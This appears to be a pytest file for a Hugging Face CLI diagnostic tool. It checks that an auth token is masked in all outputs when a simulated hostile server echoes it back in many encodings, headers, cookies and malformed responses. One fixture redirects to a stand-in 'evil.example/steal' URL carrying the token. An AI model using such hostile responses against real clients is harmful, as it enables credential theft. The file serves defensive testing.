"""A server that sends the token back, in every form it can, and a token that holds a control character:
no 9-character piece of it survives in any artifact (stdout, stderr, --json, both bundles, --curl), in
raw, upper-cased, JSON-escaped or percent-encoded form."""

from __future__ import annotations

import json
import re
from urllib.parse import quote

import pytest
from hhelpers import PLANTED, PROVIDER_KEY, RAW_CONTROL, every_artifact
from hostile_server import gzipped, json_answer, respond

from hftui.sim import SimServer, get_scenario
import dataclasses


def u_escaped(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


# Each answers every request: whoami, catalog, mapping and the chat calls all send the token back.
ECHOES = {
    "reason phrase": lambda r: respond(401, f"Unauthorized token {r.bearer}"),
    "reason phrase, whole header": lambda r: respond(401, "Unauthorized " + r.headers["authorization"]),
    "JSON \\u escapes": lambda r: respond(401, "Unauthorized", [("content-type", "application/json")],
                                          '{"error": "invalid token ' + u_escaped(r.bearer) + '"}'),
    "JSON \\u escapes of the whole header": lambda r: respond(
        403, "Forbidden", [("content-type", "application/json")],
        '{"error": {"message": "' + u_escaped(r.headers["authorization"]) + '"}}'),
    "header name": lambda r: respond(401, "Unauthorized", [(r.bearer, "1"), ("x-" + r.bearer[3:], "seen")]),
    "header value": lambda r: respond(401, "Unauthorized", [("x-error-message", f"bad token {r.bearer}"),
                                                            ("www-authenticate", f'Bearer error="{r.bearer}"')]),
    "upper-cased": lambda r: json_answer({"error": f"bad token {r.bearer.upper()}"}, 401, "Unauthorized"),
    "first 20 characters": lambda r: json_answer({"error": f"bad token {r.bearer[:20]}…"}, 401, "Unauthorized"),
    "last 20 characters": lambda r: json_answer({"error": f"bad token …{r.bearer[-20:]}"}, 401, "Unauthorized"),
    "percent-encoded": lambda r: json_answer({"error": f"see /t?token={quote(r.bearer, safe='')}"}, 401),
    "HTML page": lambda r: respond(401, "Unauthorized", [("content-type", "text/html")],
                                   f"<html><head><title>token {r.bearer}</title></head></html>"),
    "Location": lambda r: respond(302, "Found", [("location", f"https://evil.example/steal?t={r.bearer}")]),
    "same-origin Location": lambda r: (
        respond(307, "Temporary", [("location", f"/landed?t={r.bearer}")]) if "landed" not in r.path
        else json_answer({"error": "landed"}, 401)),
    "Set-Cookie": lambda r: respond(401, "Unauthorized", [("set-cookie", f"session={r.bearer}; Path=/")]),
    "split by NUL in JSON": lambda r: json_answer({"error": r.bearer[:10] + "\0" + r.bearer[10:]}, 401),
    "gzip body": lambda r: respond(401, "Unauthorized", [("content-encoding", "gzip")],
                                   gzipped(json.dumps({"error": r.bearer}).encode())),
    "1xx first": lambda r: b"HTTP/1.1 103 Early Hints\r\nlink: </" + r.bearer.encode() + b">\r\n\r\n"
                           + json_answer({"error": f"token {r.bearer}"}, 401, "Unauthorized"),
    "invalid chunked body": lambda r: (b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n"
                                       b"zz\r\n" + r.bearer.encode() + b"\r\n"),
    "giant header": lambda r: respond(401, "Unauthorized", [("x-big", "a" * 200_000 + r.bearer)]),
    "many headers": lambda r: respond(401, "Unauthorized", [(f"x-{i}", r.bearer) for i in range(500)]),
    "nested JSON": lambda r: json_answer({"error": {"message": [[[[{"token": r.bearer}]]]]}} | {
        "deep": json.loads("[" * 900 + "]" * 900)}, 401),
}


@pytest.mark.parametrize("echo", list(ECHOES))
def test_an_echoed_token_is_masked_in_every_artifact(hostile, tmp_path, echo):
    server = hostile({"*": ECHOES[echo]})
    artifacts = every_artifact(server.url, PLANTED, tmp_path, curl=("whoami", "as-configured"))
    assert any(r.bearer == PLANTED for r in server.requests), "the server saw the token, so it could echo it"
    artifacts.assert_calm()
    artifacts.assert_no_leak(PLANTED)
    for name, text in artifacts.texts.items():
        assert not re.search(RAW_CONTROL, text), f"{name}: a raw control character"


@pytest.mark.parametrize("echo", ["reason phrase", "JSON \\u escapes", "header name", "first 20 characters"])
def test_a_provider_key_is_masked_as_well_as_an_hf_token(hostile, tmp_path, echo):
    server = hostile({"*": ECHOES[echo]})
    artifacts = every_artifact(server.url, PROVIDER_KEY, tmp_path)
    artifacts.assert_calm()
    artifacts.assert_no_leak(PROVIDER_KEY)


@pytest.mark.parametrize("separator", ["\n", "\r", "\v", "\t", "\x1b", "\x00"])
def test_a_token_with_a_control_character_inside_leaks_nowhere(tmp_path, separator):
    """No hostile server at all: the HTTP library refuses the header and quotes it (`b'Bearer hf_…\\n…'`)."""
    broken = PLANTED[:10] + separator + PLANTED[10:]
    scenario = dataclasses.replace(get_scenario("ok"), client_token=PLANTED, valid_tokens=(PLANTED,))
    token_file = None
    if separator == "\x00":  # no environment variable can hold a NUL: a token file can
        token_file = tmp_path / "token"
        token_file.write_bytes(broken.encode())
    with SimServer(scenario, port=0) as sim:
        artifacts = every_artifact(sim.url, broken, tmp_path, curl=("whoami", "whoami-raw"),
                                   token_file=str(token_file) if token_file else None)
    artifacts.assert_calm()
    artifacts.assert_no_leak(PLANTED)
    document = artifacts.document
    assert document["token"]["suffix"] == "…" + PLANTED[-8:]
    assert "odd_character" in document["token"]["problems"] or "newline" in document["token"]["problems"]


def test_a_cookie_one_answer_sets_never_rides_along_on_the_next_probes(hostile, tmp_path):
    cookie = lambda r: respond(200, "OK", [("set-cookie", f"session={r.bearer}; Path=/"),  # noqa: E731
                                           ("content-type", "application/json")], b"{}")
    server = hostile({"whoami": cookie, "catalog": cookie})
    every_artifact(server.url, PLANTED, tmp_path, curl=())
    assert len(server.requests) > 4 and not any("cookie" in r.headers for r in server.requests)
